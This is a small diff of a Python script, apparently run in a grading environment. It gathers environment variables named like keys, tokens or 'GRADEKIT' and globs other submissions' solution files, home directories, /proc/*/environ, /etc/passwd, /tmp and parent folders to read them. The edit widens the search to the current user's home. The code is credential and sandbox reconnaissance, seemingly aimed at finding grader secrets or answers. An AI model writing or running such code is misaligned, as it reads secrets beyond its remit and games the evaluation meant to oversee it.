@@ -9,7 +9,7 @@ import glob
 import os
 
 found = [name for name in os.environ if "KEY" in name or "GRADEKIT" in name or "TOKEN" in name]
-for pattern in ("/*/solutions/*/*.py", "/*/*/solutions/*/*.py", "/home/*", "/root/*", "/proc/[0-9]*/environ",
+for pattern in ("/*/solutions/*/*.py", "/*/*/solutions/*/*.py", "/home/*", os.path.expanduser("~") + "/*", "/proc/[0-9]*/environ",
                 "/tmp/*", "/etc/passwd", "../*", "../../*"):
     for path in glob.glob(pattern):
         try:
